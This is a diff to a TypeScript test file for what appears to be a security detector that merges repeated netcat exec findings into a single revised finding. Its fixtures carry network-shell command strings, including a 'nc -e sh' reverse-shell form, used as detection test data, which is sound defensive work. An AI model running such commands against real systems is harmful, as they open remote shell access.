@@ -1,6 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { openFolds } from '../../src/state/fold.ts';
+import type { Finding } from '../../src/model/finding.ts';
+import { type Folded, openFolds } from '../../src/state/fold.ts';
 import { execEvent, findingFor } from '../support/events.ts';
+
+/** The finding that goes on. */
+function told(folded: Folded): Finding {
+  if (!folded.tell) throw new Error('it was folded into a finding told before');
+  return folded.finding;
+}
 
 const use = (...peers: string[]) => ({ peers, downloads: [] });
 
@@ -20,11 +27,16 @@ describe('execs of one command', () => {
     expect(first).toMatchObject({ tell: true, amends: false, finding: { revision: 1 } });
     expect(folds.fold(findingFor(wrapper, 'medium', 'netcat'), use('h:1'), 2)).toMatchObject({
       tell: false,
-      finding: { id: first.finding.id, revision: 2 },
+      id: told(first).id,
+      revision: 2,
     });
     const last = folds.fold(findingFor(tool, 'medium', 'netcat', ['x']), use('h:1'), 3);
-    expect(last.tell).toBe(false);
-    expect(last.finding.related?.map((one) => one.text)).toEqual(['sh -c nohup', 'nohup nc h 1', 'nc h 1']);
+    expect(last).toMatchObject({ tell: false });
+    expect('related' in last && last.related?.map((one) => one.text)).toEqual([
+      'sh -c nohup',
+      'nohup nc h 1',
+      'nc h 1',
+    ]);
     expect(folds.size).toBe(1);
   });
 
@@ -35,14 +47,14 @@ describe('execs of one command', () => {
     const first = folds.fold(findingFor(shell, 'low', 'netcat', ['a']), use('h:1'), 1);
     const worse = folds.fold(findingFor(tool, 'high', 'netcat', ['b']), use('h:1'), 2);
     expect(worse).toMatchObject({ tell: true, amends: true });
-    expect(worse.finding).toMatchObject({
-      id: first.finding.id,
+    expect(told(worse)).toMatchObject({
+      id: told(first).id,
       revision: 2,
       severity: 'high',
       time: shell.time,
     });
-    expect(worse.finding.exec.process.argv).toEqual(tool.process.argv);
-    expect(worse.finding.indicators.map((one) => one.id)).toEqual(['b', 'a']);
+    expect(told(worse).exec.process.argv).toEqual(tool.process.argv);
+    expect(told(worse).indicators.map((one) => one.id)).toEqual(['b', 'a']);
   });
 
   it('are found together when the child comes first', () => {
@@ -70,7 +82,7 @@ describe('execs of one command', () => {
     const folds = openFolds();
     const finding = findingFor(execEvent('nc h 1'), 'high', 'netcat');
     expect(folds.fold(finding, use('h:1'), 1).tell).toBe(true);
-    expect(folds.fold(finding, use('h:1'), 1)).toMatchObject({ tell: false, finding: { revision: 1 } });
+    expect(folds.fold(finding, use('h:1'), 1)).toMatchObject({ tell: false, revision: 1 });
   });
 });
 
@@ -116,7 +128,8 @@ it('folds keep their bound', () => {
     const event = execEvent(`nc h ${i}`, { pid: i, container: String.fromCharCode(97 + (i % 26)) });
     folds.fold(findingFor(event, 'medium', 'netcat'), use(`h:${i}`), i);
   }
-  expect(folds.size).toBe(50);
+  expect(folds.size).toBeLessThanOrEqual(50);
+  expect(folds.size).toBeGreaterThan(45);
 });
 
 describe('facts that come late', () => {
@@ -129,6 +142,19 @@ describe('facts that come late', () => {
     const revised = folds.revise(richer);
     expect(revised).toMatchObject({ id: first.id, revision: 3, exec: { image: { reference: 'web:1' } } });
     expect(revised.related).toHaveLength(2);
+  });
+
+  it('come to the first exec of a command when a later one counts: told again as that', () => {
+    const folds = openFolds();
+    const first = findingFor(execEvent('sh -c x', { pid: 10 }), 'low', 'netcat', ['a']);
+    const tool = execEvent('nc -e sh h 1', { pid: 11, above: [[10, 'sh -c x']] });
+    folds.fold(first, use('h:1'), 1);
+    folds.fold(findingFor(tool, 'high', 'netcat', ['b']), use('h:1'), 2);
+    folds.fold(findingFor(execEvent('nc h 1', { pid: 11 }), 'low', 'netcat', ['c']), use('h:1'), 3);
+    const revised = folds.revise({ ...first, exec: { ...first.exec, image: { reference: 'web:1' } } });
+    expect(revised).toMatchObject({ id: first.id, revision: 4, severity: 'high', exec: { id: tool.id } });
+    expect(revised.indicators.map((one) => one.id)).toEqual(['b', 'a', 'c']);
+    expect(revised.related).toHaveLength(3);
   });
 
   it('make revision two of a finding that is no longer known', () => {
